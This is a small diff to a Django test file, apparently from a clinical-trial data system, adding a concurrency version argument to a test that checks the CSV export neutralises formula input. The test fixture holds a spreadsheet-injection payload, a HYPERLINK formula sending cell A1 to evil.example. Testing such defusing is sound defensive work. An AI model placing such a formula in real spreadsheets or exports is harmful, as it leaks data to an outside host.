@@ -11,6 +11,7 @@ from django.db import DatabaseError, connection, transaction
 
 from datamanagement import guards
 from outcomes.models import Murray
+from trialedc import concurrency
 from trialedc.roles import Role
 
 from . import outcomes_factories as of
@@ -143,6 +144,7 @@ def test_the_csv_export_defuses_a_reason_written_as_a_formula(client, login, mak
         values={"fio2": Decimal("0.45")},
         complete=True,
         user=murray.entered_by,
+        opened_version=concurrency.version_of(murray),
         reason='=HYPERLINK("http://evil.example/?"&A1,"chart")',
     )
     login(make_user(Role.DATA_MANAGER))
